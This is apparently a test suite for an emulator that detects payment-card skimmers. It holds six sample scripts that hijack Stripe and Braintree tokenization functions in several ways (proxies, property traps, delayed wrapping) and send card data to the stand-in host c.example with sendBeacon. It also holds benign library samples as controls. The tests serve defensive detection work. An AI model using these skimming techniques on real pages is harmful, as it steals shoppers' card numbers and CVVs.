import assert from 'node:assert/strict';
import { summarise } from '../../../analyzer/emulator/index.ts';
import { eventsOf, flowsOf, run } from './sandbox-of-tests.ts';

const leak = "navigator.sendBeacon('https://c.example/p', JSON.stringify";

/** Functions of payment libraries that a script wraps, and copies of what passes through. */
const wrappers: Readonly<Record<string, string>> = {
  'a function of a library': `
    var real = Stripe.card.createToken;
    Stripe.card.createToken = function (card, done) { ${leak}(card)); return real.call(this, card, done) };`,
  'a function of a library, once it has loaded': `
    (function wait() { if (!window.braintree) return setTimeout(wait, 100);
      const real = braintree.tokenizeCard; braintree.tokenizeCard = (...all) => { ${leak}(all)); return real(...all) } })();`,
  'a client that a library makes': `
    const make = braintree.client.create; braintree.client.create = (options, done) => make(options, (error, client) => {
      const real = client.request; client.request = function (what, then) { ${leak}(what.data)); return real(what, then) };
      done(error, client) });`,
  'the library as a whole': `
    var real = window.Stripe; window.Stripe = function (key) { var made = real(key), confirm = made.confirmCardPayment;
      made.confirmCardPayment = function (secret, data) { ${leak}(data)); return confirm.apply(made, arguments) }; return made };`,
  'the library behind a proxy': `
    window.Stripe = new Proxy(window.Stripe, { apply: (real, self, all) => new Proxy(real(...all), { get: (made, name) =>
      name === 'createPaymentMethod' ? (...given) => { ${leak}(given)); return made[name](...given) } : made[name] }) });`,
  'a library that is yet to load': `
    let now; Object.defineProperty(window, 'Stripe', { get: () => now, set(real) { now = function (key) { const made = real(key);
      const token = made.createToken; made.createToken = card => { ${leak}(card)); return token(card) }; return made } } });`,
};

/** Libraries that make such functions themselves. */
const libraries: Readonly<Record<string, string>> = {
  'a library': `
    (function (w) { if (w.Stripe) console.warn('loaded twice'); function Client(key) { this.key = key }
      Client.prototype.createToken = function (card) { return fetch('https://api.pay.example/v1', { method: 'POST', body: JSON.stringify(card) }) };
      w.Stripe = function (key) { return new Client(key) } })(window);`,
  'a part that is added to a library': `
    window.braintree = window.braintree || {};
    braintree.tokenize = function (card) { fetch('https://api.pay.example/v1', { method: 'POST', body: JSON.stringify(card) }) };`,
  'a library that keeps the name from before': `
    var before = window.Checkout; window.Checkout = { noConflict: function () { window.Checkout = before },
      createToken: function (card) { fetch('https://api.pay.example/v1', { method: 'POST', body: JSON.stringify(card) }) } };`,
};

describe('emulator: payment libraries', () => {
  for (const [what, script] of Object.entries(wrappers))
    it(`shows what is caught by wrapping ${what}`, async () => {
      const flows = await flowsOf(script);
      const fields = flows.filter(({ host }) => host === 'c.example').map(({ field }) => field);
      assert.ok(fields.includes('card-number') && fields.includes('card-cvv'), JSON.stringify(flows));
    });

  for (const [what, script] of Object.entries(libraries))
    it(`gives no card to ${what}`, async () => assert.deepEqual(await flowsOf(script), []));

  it('names what was replaced', async () => {
    const trace = await run(wrappers['a function of a library']!);
    assert.deepEqual(summarise(trace).hooks, ['Stripe.card.createToken']);
    assert.equal(eventsOf(trace, 'shop-request').length, 1);
  });

  it('takes no other library for one of payments', async () => {
    const trace = await run(
      'var real = moment.format; moment.format = function () { return real.apply(this, arguments) }',
    );
    assert.deepEqual(summarise(trace).hooks, []);
  });
});
